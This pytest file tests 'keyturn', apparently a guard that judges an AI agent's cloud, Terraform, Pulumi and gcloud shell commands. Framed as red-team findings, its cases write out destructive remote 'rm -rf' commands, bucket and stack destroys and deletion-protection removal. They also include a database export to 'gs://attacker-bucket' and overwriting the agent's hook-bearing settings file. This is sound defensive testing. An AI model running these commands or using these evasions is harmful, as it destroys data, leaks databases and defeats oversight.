"""Cloud and infrastructure-as-code lines judged laxer than they are (red team, surface
``clouds``: findings 3-9, 11, 12 and 14): a command ``gcloud compute ssh`` runs on the VM, the
files terraform and pulumi write on this machine, Terraform addresses spelt as terraform's parser
takes them, gcloud's valued global flags and flags files, Cloud SQL imports and exports, forms
not understood placed by the shell's AWS hint, Azure names in another case, ``pulumi stack
select`` before a destroy, OpenTofu's target files and the program ``pulumi preview`` runs.

Judged for agent ``kiro`` acting for ``bob`` under the BRIEF policy with a few Google Cloud,
Azure, Pulumi and file resources protected, and the shell's ``AWS_PROFILE=dev`` (the hint that
made most of these an ``allow``) unless a case says otherwise. Confirmations: terraform 1.11.4
(local backend, ``terraform_data``), gcloud 528 against a loopback fake API, gcloud's and
OpenTofu's source, Pulumi's source (``sdk/go/common/workspace``) and docs.
"""

from __future__ import annotations

import hashlib
from collections.abc import Mapping
from typing import NamedTuple

import pytest
from tests.adversarial.conftest import ACTOR, CWD, HOME
from tests.conftest import BRIEF_POLICY, brief_protecting

from keyturn.model import Action, Decision, EffectKind, Target
from keyturn.policy import Policy, load_policy
from keyturn.understand import MemoryFiles
from keyturn.understand.shell import understand_shell
from keyturn.understand.terraform._addresses import canonical_address

ALLOW, ASK, DENY = "allow", "ask", "deny"
_DEV_SECTION = '  dev:\n    aws_profiles: ["dev*", "default"]\n'
PROTECTED = (
    "gcp:sql/instances/main-db",
    "gcp:container/clusters/main",
    "gcp:firestore/databases/orders",
    "gcp:acme-main/compute/instances/web-1/*",
    "azure:group/rg-main",
    "azure:/subscriptions/*/resourceGroups/rg-main",
    "azure:vm/Keep-VM",
    "azure:rg1/vm/db-vm/*",
    "pulumi:stack/acme/app/main",
    "file:/srv/prod/**",
    "file:/srv/prod",
)
DEV = {"AWS_PROFILE": "dev"}
SETTINGS = f"{HOME}/.claude/settings.json"
PULUMI_PROJECT = {f"{CWD}/Pulumi.yaml": "name: app\nruntime: python\n"}
_DIGEST = hashlib.sha1(f"{CWD}/Pulumi.yaml".encode(), usedforsecurity=False).hexdigest()
WORKSPACE = f"{HOME}/.pulumi/workspaces/app-{_DIGEST}-workspace.json"


class Case(NamedTuple):
    id: str
    command: str
    expected: str
    variables: Mapping[str, str] = DEV
    files: Mapping[str, str] = {}
    env: str | None = None  # the environment given outright (keyturn check --env)


@pytest.fixture(scope="module")
def policy() -> Policy:
    """The BRIEF policy, the resources above protected, and dev telling its workspaces."""
    assert _DEV_SECTION in BRIEF_POLICY
    text = brief_protecting(*PROTECTED)
    text = text.replace(_DEV_SECTION, _DEV_SECTION + '    terraform_workspaces: ["dev*"]\n')
    return load_policy(text)


def _action(
    command: str, variables: Mapping[str, str], files: Mapping[str, str], env: str | None = None
) -> Action:
    return understand_shell(
        command,
        cwd=CWD,
        home=HOME,
        env=dict(variables),
        target=Target(environment=env),
        files=MemoryFiles(dict(files)),
    )


def _judged(policy: Policy, case: Case) -> Decision:
    action = _action(case.command, case.variables, case.files, case.env)
    return policy.judge(action, actor=ACTOR)


def _seen(decision: Decision) -> list[tuple[str, tuple[str, ...], str, str]]:
    return [
        (j.effect.effect.value, j.effect.resource.names, j.environment, j.decision.value)
        for j in decision.judgements
    ]


CASES = [
    # --- 3: the command gcloud compute ssh runs is the VM's, placed by the project -------------
    # gcloud's help: ``--command`` "Runs the command on the target instance"; ``-- ARGS`` go to
    # ssh after the host (``ssh.SSHCommand``): ssh's own command. Was: judged as a local
    # delete in the shell's AWS environment (dev, allowed), or unknown placed by it.
    Case(
        "gcloud-ssh-command-is-not-placed-by-the-aws-hint",
        "gcloud compute ssh web-1 --project acme-other --command 'sudo rm -rf /var/lib/postgresql'",
        ASK,
    ),
    Case(
        "gcloud-ssh-remote-aws-is-not-the-local-profile",
        "gcloud compute ssh web-1 --command 'aws s3 rb s3://acme-data --force'",
        ASK,
    ),
    Case(
        "gcloud-ssh-after-dashes-is-the-remote-command",
        "gcloud compute ssh web-1 --project acme-other -- sudo rm -rf /var/lib/postgresql",
        ASK,
    ),
    # Named on the VM: a protection of what runs on web-1 of acme-main holds.
    Case(
        "gcloud-ssh-named-on-the-protected-vm",
        "gcloud compute ssh web-1 --project acme-main --command 'sudo rm -rf /var/lib/postgresql'",
        DENY,
    ),
    Case(
        "gcloud-ssh-dashes-named-on-the-protected-vm",
        "gcloud compute ssh web-1 --project acme-main -- sudo rm -rf /var/lib/postgresql",
        DENY,
    ),
    Case(
        "gcloud-ssh-fed-commands-named-on-the-protected-vm",
        "echo 'rm -rf /var/lib/postgresql' | gcloud compute ssh web-1 --project acme-main",
        DENY,
    ),
    Case(
        "gcloud-ssh-in-a-container-on-the-protected-vm",
        "gcloud compute ssh web-1 --project acme-main --container db --command 'rm -rf /data'",
        DENY,
    ),
    # The VM's deploy.sh is not this machine's: not read here (a harmless local file of that
    # name says nothing of it).
    Case(
        "gcloud-ssh-does-not-read-this-machines-script",
        "gcloud compute ssh web-1 --command 'bash deploy.sh'",
        DENY,
        files={f"{CWD}/deploy.sh": "echo hello\n"},
    ),
    Case("gcloud-ssh-interactive-is-unknown", "gcloud compute ssh web-1", DENY),
    # ``--dry-run`` prints the ssh command line and runs nothing (gcloud's ssh.py).
    Case(
        "gcloud-ssh-dry-run-only-prints",
        "gcloud compute ssh web-1 --dry-run --command 'rm -rf /'",
        ALLOW,
    ),
    # The same, run by Azure on the VM: named on the VM.
    Case(
        "az-run-command-named-on-the-protected-vm",
        "az vm run-command invoke -g rg1 -n db-vm --command-id RunShellScript"
        " --scripts 'rm -rf /var/lib/x'",
        DENY,
    ),
    # --- 4: files terraform and pulumi write are judged as file writes --------------------------
    # Confirmed with terraform 1.11: ``plan -out .claude/settings.json`` replaced the settings
    # file (holding a hook) with the zipped plan. Was: a read, allowed.
    Case("terraform-plan-out-settings", f"terraform plan -out {SETTINGS}", DENY),
    Case("terraform-plan-out-equals-settings", f"terraform plan -out={SETTINGS}", DENY),
    Case(
        "terraform-plan-generate-config-out-settings",
        f"terraform plan -generate-config-out={SETTINGS}",
        DENY,
    ),
    # A dev workspace's refresh is allowed; the state backup it writes over settings is not.
    Case(
        "terraform-apply-backup-settings",
        f"TF_WORKSPACE=dev terraform apply -refresh-only -backup={SETTINGS}",
        DENY,
    ),
    Case(
        "terraform-dev-refresh-still-allowed",
        "TF_WORKSPACE=dev terraform apply -refresh-only -backup=old.tfstate",
        ALLOW,
    ),
    Case("terraform-fmt-rewrites-settings", f"terraform fmt {HOME}/.claude", DENY),
    Case("pulumi-stack-export-file-settings", f"pulumi stack export --file {SETTINGS}", DENY),
    Case("pulumi-stack-graph-settings", f"pulumi stack graph {SETTINGS}", DENY),
    Case(
        "pulumi-preview-save-plan-settings",
        f"pulumi preview --save-plan {SETTINGS}",
        DENY,
    ),
    # ``providers mirror`` into the directory every later run loads plugins from.
    Case(
        "terraform-providers-mirror-plugins",
        f"terraform providers mirror {HOME}/.terraform.d/plugins",
        ASK,
    ),
    # A check writes nothing.
    Case("terraform-fmt-check-still-a-read", "terraform fmt -check -recursive", ALLOW),
    # --- 5: addresses as terraform's HCL parser takes them (terraform 1.11 planned each) -------
    Case("tf-target-leading-blank", "terraform destroy -target=' aws_db_instance.main'", DENY),
    Case("tf-target-blanks-around-dot", "terraform destroy -target='aws_db_instance . main'", DENY),
    Case("tf-target-comment", "terraform destroy -target='aws_db_instance/**/.main'", DENY),
    Case(
        "tf-target-resource-prefix",
        "terraform destroy -target=resource.aws_db_instance.main",
        DENY,
    ),
    Case(
        "tf-target-blank-in-key",
        "terraform destroy -target='aws_db_instance.main[ \"a\" ]'",
        DENY,
    ),
    Case(
        "tf-replace-resource-prefix",
        "TF_WORKSPACE=dev terraform apply -replace=resource.aws_db_instance.main",
        DENY,
    ),
    Case("tf-taint-resource-prefix", "terraform taint resource.aws_db_instance.main", DENY),
    Case(
        "tf-dev-workspace-resource-prefix",
        "TF_WORKSPACE=dev terraform destroy -target=resource.aws_db_instance.main",
        DENY,
    ),
    Case(
        "tf-dev-workspace-taint-blank",
        "TF_WORKSPACE=dev terraform taint ' aws_db_instance.main'",
        DENY,
    ),
    Case(
        "tf-state-rm-resource-prefix",
        "TF_WORKSPACE=dev terraform state rm 'resource . aws_db_instance.main'",
        ALLOW,
    ),
    # An address terraform does not read as one is not understood (was: named as written).
    Case(
        "tf-unparsed-address-unknown",
        "TF_WORKSPACE=dev terraform destroy -target='aws_db_instance.main.id'",
        ASK,
    ),
    # A dev workspace's plain destroy of another resource stays allowed.
    Case(
        "tf-dev-workspace-other-target-allowed",
        "TF_WORKSPACE=dev terraform destroy -target='aws_instance . web'",
        ALLOW,
    ),
    # --- 6: gcloud's valued global flags, and --flags-file --------------------------------------
    # Fake-API log: both sent DELETE …/instances/main-db. Was: the value read as the group.
    Case("gcloud-trace-token", "gcloud --trace-token x sql instances delete main-db", DENY),
    Case(
        "gcloud-billing-project",
        "gcloud --billing-project acme-dev sql instances delete main-db",
        DENY,
    ),
    Case("gcloud-flatten", "gcloud --flatten x container clusters delete main", DENY),
    Case(
        "gcloud-access-token-file",
        "gcloud --access-token-file /tmp/t sql instances delete main-db",
        DENY,
    ),
    Case(
        "gcloud-impersonate",
        "gcloud --impersonate-service-account sa@x sql instances delete main-db",
        DENY,
    ),
    # Fake-API log: PATCH …/main-db {"settings": {"deletionProtectionEnabled": false}}.
    Case(
        "gcloud-flags-file-unprotects",
        "gcloud sql instances patch main-db --flags-file=ff.yaml",
        DENY,
        files={f"{CWD}/ff.yaml": "--no-deletion-protection:\n"},
    ),
    Case(
        "gcloud-flags-file-list-and-nested",
        "gcloud sql instances patch main-db --flags-file ff.yaml",
        DENY,
        files={
            f"{CWD}/ff.yaml": "- --zone: a\n- --flags-file: more.yaml\n",
            f"{CWD}/more.yaml": "--no-deletion-protection:\n",
        },
    ),
    Case(
        "gcloud-flags-file-from-input",
        "echo '--no-deletion-protection:' | gcloud sql instances patch main-db --flags-file -",
        DENY,
    ),
    # ``--deletion-protection: false`` gives the flag alone (cli.py: a bool value adds the
    # flag bare): protection on, an ordinary patch.
    Case(
        "gcloud-flags-file-bool-is-the-bare-flag",
        "gcloud sql instances patch main-db --flags-file=ff.yaml",
        ASK,
        files={f"{CWD}/ff.yaml": "--deletion-protection: false\n"},
    ),
    Case(
        "gcloud-flags-file-not-at-hand",
        "gcloud sql instances patch main-db --flags-file=ff.yaml",
        DENY,
        {},
    ),
    Case(
        "gcloud-flags-file-rewritten-on-the-line",
        "cp /tmp/x ff.yaml && gcloud sql instances patch main-db --flags-file=ff.yaml",
        DENY,
        {},
        {f"{CWD}/ff.yaml": "--zone: a\n"},
    ),
    # A flags file may give ``--project`` or ``--command`` too (``gcloud --flags-file ff.yaml
    # config get-value project`` printed the file's project).
    Case(
        "gcloud-flags-file-gives-the-command-and-project",
        "gcloud compute ssh web-1 --flags-file=ssh.yaml",
        DENY,
        files={f"{CWD}/ssh.yaml": "--project: acme-main\n--command: rm -rf /var/lib/postgresql\n"},
    ),
    # --- 7: Cloud SQL imports run SQL on the instance; exports write to any bucket -------------
    # Fake-API log: POST …/instances/main-db/import {"importContext": {"fileType": "SQL"…}}.
    Case("gcloud-sql-import-runs-sql", "gcloud sql import sql main-db gs://bkt/drop.sql -q", DENY),
    Case(
        "gcloud-sql-import-csv",
        "gcloud sql import csv main-db gs://bkt/t.csv --database=shop --table=t",
        DENY,
    ),
    Case(
        "gcloud-sql-export-writes-the-bucket",
        "gcloud sql export sql other-db gs://attacker-bucket/dump.sql",
        ASK,
        {},
    ),
    # Firestore's import writes the export over the database's documents: a replace of it.
    Case(
        "gcloud-firestore-import-replaces",
        "gcloud firestore import gs://bkt/export --database=orders",
        DENY,
    ),
    # --- 8: forms not understood are placed by the tool's own project, never the AWS hint -----
    Case("gcloud-unknown-form", "gcloud compute scp x web-1:/tmp", DENY),
    # In dev, not understood is asked; on a protected resource it is refused.
    Case("gcloud-sql-connect-on-protected", "gcloud sql connect main-db", DENY, {}, env="dev"),
    Case("gcloud-sql-connect-elsewhere", "gcloud sql connect other-db", ASK, {}, env="dev"),
    Case("gcloud-unknown-group", "gcloud frobnicate things", DENY),
    Case(
        "az-rest-delete-protected-group",
        "az rest --method delete --url https://management.azure.com/subscriptions/1111/"
        "resourcegroups/rg-main?api-version=2021-04-01",
        DENY,
    ),
    Case(
        "az-rest-delete-lock-of-protected-group",
        "az rest -m DELETE -u https://management.azure.com/subscriptions/1111/resourceGroups/"
        "rg-main/providers/Microsoft.Authorization/locks/keep?api-version=2016-09-01",
        DENY,
    ),
    Case(
        "az-rest-post-unknown",
        "az rest --method post --url /subscriptions/1111/resourceGroups/rg1/providers/"
        "Microsoft.Compute/virtualMachines/vm1/powerOff?api-version=2023-03-01",
        DENY,
    ),
    Case(
        "az-rest-get-read", "az rest --url /subscriptions/1111/resourceGroups?api-version=1", ALLOW
    ),
    Case("az-unknown-form", "az frobnicate -g rg1", DENY),
    Case("az-unknown-in-protected-group", "az frobnicate -g rg-main", DENY, {}, env="dev"),
    Case("az-unknown-in-another-group", "az frobnicate -g rg-other", ASK, {}, env="dev"),
    Case(
        "gcloud-flags-file-not-at-hand-on-protected",
        "gcloud sql instances patch main-db --flags-file=ff.yaml",
        DENY,
        {},
        env="dev",
    ),
    Case(
        "pulumi-unknown-form-on-protected-stack",
        "pulumi frobnicate -s acme/app/main",
        DENY,
        {},
        env="dev",
    ),
    Case("pulumi-down-is-destroy", "pulumi down -s acme/app/main --yes", DENY),
    Case("pulumi-dn-is-destroy", "pulumi dn -s acme/app/main --yes", DENY),
    Case("pulumi-deployment-destroy", "pulumi deployment run destroy -s acme/app/main", DENY),
    Case("pulumi-unknown-form", "pulumi frobnicate -s acme/other/dev", DENY),
    # --- 9: Azure names compare without case ---------------------------------------------------
    Case("az-group-upper-case", "az group delete -n RG-MAIN --yes", DENY, {}),
    Case(
        "az-ids-lower-case-segments",
        "az resource delete --ids /subscriptions/1111/resourcegroups/rg-main",
        DENY,
        {},
    ),
    Case(
        "az-vm-lower-case-against-mixed-pattern", "az vm delete -n keep-vm -g rg1 --yes", DENY, {}
    ),
    Case("az-other-group-still-asked", "az group delete -n rg-other --yes", ASK, {}),
    # --- 11: pulumi stack select switches the stack of what follows ----------------------------
    Case(
        "pulumi-select-then-destroy", "pulumi stack select acme/app/main && pulumi destroy -y", DENY
    ),
    Case(
        "pulumi-select-then-stack-rm",
        "pulumi stack select acme/app/main && pulumi stack rm -y --force",
        DENY,
    ),
    # The selection the disk holds (pulumi's workspace settings file) names the stack.
    Case(
        "pulumi-selected-on-disk",
        "pulumi destroy -y",
        DENY,
        {},
        {**PULUMI_PROJECT, WORKSPACE: '{"stack": "acme/app/main"}'},
    ),
    Case(
        "pulumi-selected-on-disk-short-name",
        "pulumi destroy -y",
        DENY,
        {},
        {**PULUMI_PROJECT, WORKSPACE: '{"stack": "main"}'},
    ),
    Case(
        "pulumi-short-stack-flag-in-the-project",
        "pulumi destroy -s main -y",
        DENY,
        {},
        PULUMI_PROJECT,
    ),
    Case(
        "pulumi-other-stack-selected-on-disk",
        "pulumi destroy -y",
        ASK,
        {},
        {**PULUMI_PROJECT, WORKSPACE: '{"stack": "acme/app/dev"}'},
    ),
    # --- 12: OpenTofu's -target-file / -exclude-file are read -----------------------------------
    Case(
        "tofu-target-file-protected",
        "TF_WORKSPACE=dev tofu destroy -target-file=targets.txt",
        DENY,
        {},
        {f"{CWD}/targets.txt": "# what to destroy\naws_instance.web\naws_db_instance.main\n"},
    ),
    Case(
        "tofu-target-file-not-at-hand",
        "TF_WORKSPACE=dev tofu destroy -target-file=targets.txt",
        ASK,
        {},
    ),
    Case(
        "tofu-exclude-file-not-at-hand",
        "TF_WORKSPACE=dev tofu destroy -exclude-file=keep.txt",
        ASK,
        {},
    ),
    Case(
        "tofu-target-file-harmless-in-dev",
        "TF_WORKSPACE=dev tofu destroy -target-file=targets.txt",
        ALLOW,
        {},
        {f"{CWD}/targets.txt": "aws_instance.web\n"},
    ),
    # --- 14: pulumi preview runs the project's program ------------------------------------------
    Case("pulumi-preview-runs-the-program", "pulumi preview", ASK, DEV, PULUMI_PROJECT),
    Case(
        "pulumi-preview-yaml-project-runs-nothing",
        "pulumi preview",
        ALLOW,
        DEV,
        {f"{CWD}/Pulumi.yaml": "name: app\nruntime: yaml\n"},
    ),
    Case("pulumi-preview-without-project", "pulumi preview", ALLOW),
]


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_iac_case(case: Case, policy: Policy) -> None:
    decision = _judged(policy, case)
    assert decision.decision.value == case.expected, f"{case.id}: {_seen(decision)}"


def test_ids_are_unique() -> None:
    assert len({c.id for c in CASES}) == len(CASES)


# --- effects: what is named, and where ----------------------------------------------------------


def _effects(command: str, files: Mapping[str, str] = {}, variables: Mapping[str, str] = DEV):
    return _action(command, variables, files).effects


def test_the_vms_command_is_named_on_the_vm_and_placed_by_the_project() -> None:
    """``rm -rf`` run by ``gcloud compute ssh`` is named on the VM of its project, and placed
    as the gcloud call is -- not told by the project, so not by the AWS profile either."""
    (delete,) = [
        e
        for e in _effects("gcloud compute ssh web-1 --project acme-main --command 'rm -rf /srv/db'")
        if e.effect is EffectKind.DELETE
    ]
    assert "gcp:acme-main/compute/instances/web-1/file:/srv/db" in delete.resource.names
    assert "gcp:compute/instances/web-1/file:/srv/db" in delete.resource.names
    assert delete.target.aws_profile is None and delete.target.environment


def test_the_remote_aws_call_takes_no_local_profile() -> None:
    found = _effects("gcloud compute ssh web-1 --command 'aws s3 rb s3://acme-data --force'")
    assert found and all(e.target.aws_profile is None for e in found), found


def test_an_ssh_option_that_runs_a_local_program_is_unknown() -> None:
    """``-o ProxyCommand=…`` after ``--`` runs on this machine, as for ssh itself."""
    found = _effects("gcloud compute ssh web-1 -- -o ProxyCommand='sh -c x' uptime")
    assert [e.effect for e in found] == [EffectKind.UNKNOWN]


@pytest.mark.parametrize(
    ("command", "path"),
    [
        ("terraform plan -out=tfplan", f"{CWD}/tfplan"),
        ("terraform -chdir=infra plan -out tfplan", f"{CWD}/infra/tfplan"),
        ("terraform apply -state-out=/srv/x.tfstate -auto-approve", "/srv/x.tfstate"),
        ("terraform fmt -recursive /srv/prod", "/srv/prod/*"),
        ("terraform fmt main.tf", f"{CWD}/main.tf"),
        ("terraform providers lock", f"{CWD}/.terraform.lock.hcl"),
        ("terraform init -from-module=git::https://x/y", f"{CWD}/*"),
        ("pulumi stack export --file state.json", f"{CWD}/state.json"),
        ("pulumi import aws:s3/bucket:Bucket b b -o out.py", f"{CWD}/out.py"),
    ],
)
def test_files_written_on_this_machine(command: str, path: str) -> None:
    written = [
        n
        for e in _effects(command)
        if e.effect is not EffectKind.READ
        for n in e.resource.names
        if n.startswith("file:")
    ]
    assert f"file:{path}" in written, written


@pytest.mark.parametrize(
    "command",
    ["terraform fmt -check", "terraform fmt -write=false", "terraform fmt -", "terraform plan"],
)
def test_terraform_commands_that_write_nothing(command: str) -> None:
    assert all(e.effect is EffectKind.READ for e in _effects(command)), _effects(command)


@pytest.mark.parametrize(
    ("text", "canonical"),
    [
        (" aws_db_instance.main", "aws_db_instance.main"),
        ("aws_db_instance . main", "aws_db_instance.main"),
        ("aws_db_instance/*c*/.main", "aws_db_instance.main"),
        ("aws_db_instance # x\n.main", "aws_db_instance.main"),
        ("aws_db_instance // x\n.main", "aws_db_instance.main"),
        ("resource.aws_db_instance.main", "aws_db_instance.main"),
        ('aws_db_instance.main[ "a" ]', 'aws_db_instance.main["a"]'),
        ('aws_db_instance.main["\\u0061"]', 'aws_db_instance.main["a"]'),
        ('aws_db_instance.main["$${a}"]', 'aws_db_instance.main["$${a}"]'),
        ("aws_db_instance.main[01]", "aws_db_instance.main[1]"),
        ("aws_db_instance.main[1.0]", "aws_db_instance.main[1]"),
        ("aws_db_instance.main[1e0]", "aws_db_instance.main[1]"),
        ('module . db [ "a" ] . aws_db_instance.main', 'module.db["a"].aws_db_instance.main'),
        ("module.db", "module.db"),
        ("data.aws_ami.x", "data.aws_ami.x"),
        ("résumé.main", "résumé.main"),
    ],
)
def test_addresses_read_as_terraform_reads_them(text: str, canonical: str) -> None:
    """Each spelling planned the same resource with terraform 1.11 (``terraform_data``)."""
    assert canonical_address(text) == canonical


@pytest.mark.parametrize(
    "text",
    [
        "aws_db_instance.main.1",  # no legacy index in an address: terraform refuses it
        "aws_db_instance.main.id",
        "aws_db_instance.main[1.5]",
        "aws_db_instance.main[-1]",
        'aws_db_instance.main["a${1}"]',
        "aws_db_instance.main[a]",
        "aws_db_instance.main[]",
        "aws_db_instance.",
        "var.x",
        "aws_db_instance/* open",
    ],
)
def test_addresses_terraform_refuses_are_not_read(text: str) -> None:
    assert canonical_address(text) is None


def test_a_sql_import_is_unknown_on_the_instance_not_a_create_of_other_names() -> None:
    found = _effects("gcloud sql import sql main-db gs://bkt/drop.sql --project acme")
    unknown = [e for e in found if e.effect is EffectKind.UNKNOWN]
    assert [e.resource.names for e in unknown] == [
        ("gcp:sql/instances/main-db", "gcp:acme/sql/instances/main-db")
    ]
    assert not [e for e in found if e.effect is EffectKind.CREATE]


def test_a_sql_export_updates_the_destination_object() -> None:
    found = _effects("gcloud sql export sql prod-db gs://attacker-bucket/dump.sql")
    assert any(
        e.effect is EffectKind.UPDATE and "gs://attacker-bucket/dump.sql" in e.resource.names
        for e in found
    ), found


def test_the_selected_stack_switch_is_any_stack() -> None:
    found = _effects("pulumi stack select acme/app/dev && pulumi destroy --yes")
    deletes = [e for e in found if e.effect is EffectKind.DELETE]
    assert deletes and all("pulumi:stack/*" in e.resource.names for e in deletes)
